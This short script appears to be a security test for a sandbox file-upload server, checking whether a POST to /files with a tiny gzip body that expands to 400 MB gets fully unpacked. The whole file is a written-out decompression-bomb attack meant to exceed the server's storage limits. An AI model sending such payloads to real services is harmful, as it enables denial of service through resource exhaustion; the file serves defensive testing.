# aim: have the server hold more than it may
# mechanism: a small gzip that is a large file
# server: body
# plain: naive

def attack():
    packed = packed_zeros(400 << 20)
    answer = ask("POST", "/files?path=large", packed, E2b_Sandbox_Id=mine.sandbox, Content_Type="application/octet-stream", Content_Encoding="gzip")
    return answer.is_good and "400 MB were unpacked"


judge(attack)
